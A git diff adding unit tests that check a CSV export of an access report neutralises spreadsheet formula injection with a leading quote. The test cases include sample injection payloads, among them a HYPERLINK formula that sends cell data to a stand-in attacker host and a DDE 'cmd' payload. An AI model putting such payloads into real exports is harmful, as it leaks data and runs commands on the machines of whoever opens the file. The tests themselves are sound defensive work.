@@ -2,7 +2,7 @@ import { z } from 'zod';
 import { GrantedV1, ManualClock, createEvent, eventRegistry, type AccessEvent, type EventDraft, type EventRegistry } from '@jit/events';
 import { sampleData } from '@jit/events/testing';
 import { readStoredEvent } from '../src/records/stored-event.js';
-import { accessPeriods } from '../src/queries/access-report.js';
+import { accessPeriods, toCsv, type AccessPeriod } from '../src/queries/access-report.js';
 
 const requestId = '0b6f5d1e-2c1a-4c55-9d0e-6f3f1e2a7b10';
 
@@ -74,5 +74,38 @@ describe('access report', () => {
         revokeReason: null,
       },
     ]);
+  });
+});
+
+describe('the access report as CSV', () => {
+  const period: AccessPeriod = {
+    requestId,
+    requester: 'alice@example.com',
+    applicationId: 'demo-sandbox',
+    oktaGroupId: '00g1demosandbox00001',
+    justification: 'INC-1',
+    approvers: ['bob@example.com'],
+    grantedAt: '2026-01-01T00:00:00.000Z',
+    expiresAt: '2026-01-01T01:00:00.000Z',
+    revokedAt: null,
+    revokeReason: null,
+  };
+  const justificationCell = (justification: string): string =>
+    toCsv([{ ...period, justification }])
+      .split('\r\n')[1]
+      .split(',')[4];
+
+  it.each([
+    ['=HYPERLINK("http://evil.example/?"&A1)', `"'=HYPERLINK(""http://evil.example/?""&A1)"`],
+    ['+1+cmd|/C calc!A0', "'+1+cmd|/C calc!A0"],
+    ['-2+3', "'-2+3"],
+    ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
+    ['\t=1+1', "'\t=1+1"],
+  ])('a cell a spreadsheet would run as a formula (%j) is neutralised with a leading quote', (justification, cell) => {
+    expect(justificationCell(justification)).toBe(cell);
+  });
+
+  it('a cell that only contains such a character further in is left as it is', () => {
+    expect(justificationCell('INC-1 = outage; see @oncall')).toBe('INC-1 = outage; see @oncall');
   });
 });
